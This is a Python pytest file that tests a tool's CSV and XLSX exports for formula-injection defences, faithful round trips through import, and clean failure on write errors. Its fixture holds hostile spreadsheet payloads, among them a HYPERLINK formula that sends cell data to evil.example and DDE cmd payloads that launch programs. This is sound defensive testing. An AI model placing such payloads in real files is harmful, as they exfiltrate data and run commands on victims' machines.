"""`tripartite export`: no formula injection, a faithful round trip through import, and no file left half-written.

Formula injection (OWASP "CSV injection"): a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR is
written behind an apostrophe in both formats, XLSX text cells are inline strings (never formulas), and the
importer strips exactly that apostrophe, so ``import(export(x)) == x``.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlite_utils import Database

from bench.gen import write_csv as write_bench_csv
from tripartite import exporter, importer, store
from tripartite.request_schema import NAMES

from .conftest import ROOT
from .core.test_importer import row, write_csv
from .hostile import run_cli

DANGEROUS = {
    "employer_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "employer_id": "+1-555-0100",
    "job_title": "-2+3",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "=cmd|' /C notepad'!'A1'\nsecond line",
}


@pytest.fixture
def risky_db(db: Database, tmp_path: Path) -> Database:
    """Requests whose texts a spreadsheet would run as formulas, plus ones that merely look close."""
    rows = [row(1, **DANGEROUS), row(2, employer_name="'quoted already", notes="'=kept as typed'"), row(3)]
    importer.import_requests(db, write_csv(tmp_path / "risky.csv", rows), auth=None)
    # Notes may hold tabs and line breaks, but the importer trims them around a value: only older data, or
    # data from elsewhere, starts with one. Export guards against it all the same.
    db.execute("UPDATE requests SET notes = ? WHERE reference = 'REQ-T-0003'", ["\t=1+1\r\n=2+2"])
    db.conn.commit()
    return db


def stored(db: Database) -> list[tuple[object, ...]]:
    return db.execute(f"SELECT {', '.join(NAMES)} FROM requests ORDER BY reference").fetchall()


def test_a_csv_export_writes_formulas_as_text(risky_db: Database, tmp_path: Path) -> None:
    # A one-line text starting with a CR can only be older data (import now refuses it); it is guarded too.
    risky_db.execute("UPDATE requests SET job_title = ? WHERE reference = 'REQ-T-0003'", ["\r=2+2"])
    risky_db.conn.commit()
    out = tmp_path / "out.csv"
    exporter.export_requests(risky_db, out)
    records = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    first, second, third = records
    for column, value in DANGEROUS.items():
        assert first[column] == "'" + value
    assert (second["employer_name"], second["notes"]) == ("'quoted already", "'=kept as typed'")
    assert (third["job_title"], third["notes"]) == ("'\r=2+2", "'\t=1+1\r\n=2+2")
    assert first["workers_requested"] == "12" and first["wage_offered"] == "1720.5"  # numbers stay numbers
    for record in records:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_an_xlsx_export_has_no_formula_cell(risky_db: Database, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    exporter.export_requests(risky_db, out)
    sheet = openpyxl.load_workbook(out).active  # the full reader: it keeps each cell's data type
    header = [c.value for c in sheet[1]]
    types = {c.data_type for r in sheet.iter_rows(min_row=2) for c in r if c.value is not None}
    assert types == {"s", "n"}, types  # text and numbers; no "f" (formula)
    first = {h: c for h, c in zip(header, sheet[2], strict=True)}
    for column, value in DANGEROUS.items():
        assert (first[column].value, first[column].data_type) == ("'" + value, "s")
    assert (first["workers_requested"].value, first["workers_requested"].data_type) == (12, "n")
    assert first["wage_offered"].value == 1720.5
    with zipfile.ZipFile(out) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_exported_file_imports_back_to_the_same_requests(risky_db: Database, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    exporter.export_requests(risky_db, out)
    copy = store.open_db(tmp_path / "copy.db")
    try:
        importer.import_requests(copy, out, auth=None)
        assert stored(copy) == stored(risky_db)
    finally:
        copy.close()


SAFE_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"], include_characters="=+-@'\t"),
    min_size=1,
    max_size=15,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=SAFE_TEXT, notes=SAFE_TEXT, title=SAFE_TEXT, suffix=st.sampled_from([".csv", ".xlsx"]))
def test_any_text_survives_export_then_import(tmp_path: Path, name: str, notes: str, title: str, suffix: str) -> None:
    name, title = name.replace("\t", " ").strip() or "x", title.replace("\t", " ").strip() or "y"
    notes = notes.strip() or "z"
    folder = tmp_path / f"{suffix[1:]}-{abs(hash((name, notes, title)))}"
    folder.mkdir()
    first = store.open_db(folder / "a.db")
    second = store.open_db(folder / "b.db")
    try:
        source = folder / "in.csv"
        buf = io.StringIO()
        writer = csv.DictWriter(buf, fieldnames=list(NAMES), lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerow(row(1, employer_name=name, notes=notes, job_title=title))
        source.write_text(buf.getvalue(), encoding="utf-8", newline="")
        importer.import_requests(first, source, auth=None)
        exporter.export_requests(first, folder / f"out{suffix}")
        importer.import_requests(second, folder / f"out{suffix}", auth=None)
        assert stored(second) == stored(first)
    finally:
        first.close()
        second.close()


# ------------------------------------------------------------------------------------- failing midway


@pytest.fixture(scope="module")
def big_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A board with 3,000 requests: an export of about 1.5 MB."""
    folder = tmp_path_factory.mktemp("big-export")
    db = folder / "board.db"
    assert run_cli("init", "--db", db, "--board", ROOT / "data" / "sample" / "board.toml")[0] == 0
    assert run_cli("import", write_bench_csv(folder / "requests.csv", 3000), "--db", db)[0] == 0
    return db


def _limited(max_bytes: int) -> None:
    """In the child: no file may grow beyond ``max_bytes`` (writes fail with EFBIG, like a full disk)."""
    resource.setrlimit(resource.RLIMIT_FSIZE, (max_bytes, max_bytes))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_that_fails_midway_leaves_nothing_behind(big_db: Path, tmp_path: Path, suffix: str) -> None:
    db = tmp_path / "board.db"
    with sqlite3.connect(big_db) as source, sqlite3.connect(db) as target:
        source.backup(target)
    source.close()
    target.close()
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"requests{suffix}"
    out.write_bytes(b"the previous export")
    result = subprocess.run(
        [sys.executable, "-m", "tripartite", "export", "--db", db, "--out", out],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        cwd=ROOT,
        preexec_fn=lambda: _limited(100_000),  # the export is far larger; the database needs no growth to be read
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [f"error: {out}: cannot write (File too large)"]
    assert sorted(p.name for p in folder.iterdir()) == [out.name], "a partial file was left behind"
    assert out.read_bytes() == b"the previous export"


def test_an_export_to_a_folder_that_is_not_there_or_a_directory(big_db: Path, tmp_path: Path) -> None:
    code, _, err = run_cli("export", "--db", big_db, "--out", tmp_path / "missing" / "out.csv")
    assert code == 2 and "cannot write" in err
    target = tmp_path / "taken.csv"
    target.mkdir()
    code, _, err = run_cli("export", "--db", big_db, "--out", target)
    assert code == 2 and "cannot write" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["taken.csv"]
    assert list(target.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_an_export_into_a_read_only_folder(big_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        code, _, err = run_cli("export", "--db", big_db, "--out", folder / "out.xlsx")
        assert code == 2 and "cannot write" in err
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)
